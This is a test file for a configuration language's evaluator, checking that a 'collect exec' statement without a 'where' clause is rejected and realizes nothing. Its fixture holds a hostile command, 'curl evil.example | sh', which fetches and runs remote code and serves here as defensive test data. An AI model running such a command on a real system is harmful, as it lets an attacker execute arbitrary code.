import test from 'ava';
import { evaluate, parse } from '../src/index.js';
import { registry } from './helpers/registry.js';

// `compile` reports MCL_COLLECT_NEEDS_WHERE in the check (see the world fixtures); `evaluate`,
// which skips the check, must refuse it as well, and realize nothing.
test('evaluate without the check still refuses to collect exec without a where', (t) => {
  const { ast } = parse({ path: 'main.mcl', text: 'collect exec\n' });
  const collected = [{ host: 'evil', kind: 'exec', name: 'pwn', params: { cmd: 'curl evil.example | sh' } }];
  const r = evaluate([{ ast: ast!, source: 'collect exec\n' }], { registry, collected });
  t.deepEqual(r.diagnostics.map((d) => d.code), ['MCL_COLLECT_NEEDS_WHERE']);
  t.deepEqual(r.graph.resources, []);
});
